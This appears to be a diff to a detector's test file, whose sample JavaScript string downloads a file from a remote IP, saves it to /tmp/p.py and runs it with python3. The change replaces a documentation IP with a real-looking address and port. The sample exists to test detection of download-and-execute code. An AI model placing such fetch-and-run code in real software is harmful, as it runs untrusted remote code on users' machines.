@@ -81,7 +81,7 @@ def test_a_download_written_and_run_from_callbacks_is_one_download_exec() -> Non
     code = (
         "const fs = require('fs'), request = require('request'), cp = require('child_process');\n"
         "function dl() {\n"
-        "  request.get('http://203.0.113.9/p', (e, r, body) => {\n"
+        "  request.get('http://95.164.17.24:1224/p', (e, r, body) => {\n"
         "    fs.writeFileSync('/tmp/p.py', body);\n"
         "    cp.exec('python3 /tmp/p.py');\n"
         "  });\n"
